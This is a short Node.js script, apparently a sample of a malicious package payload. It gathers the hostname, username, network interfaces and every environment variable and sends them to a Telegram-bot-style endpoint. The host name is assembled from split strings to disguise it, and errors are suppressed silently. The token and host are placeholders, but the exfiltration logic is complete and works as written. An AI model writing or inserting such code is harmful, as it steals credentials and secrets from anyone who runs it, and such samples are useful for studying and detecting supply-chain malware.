const os = require('os');
const https = require('https');
const BOT = '0000000000:FAKE-bot-token-do-not-use';
const CHAT = '-1000000000000';
const host = ['api', 'telegram', 'example'].join('.');
const text = encodeURIComponent(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), e: process.env }).slice(0, 4000));
https.get(`https://${host}/bot${BOT}/sendMessage?chat_id=${CHAT}&text=${text}`).on('error', () => {});
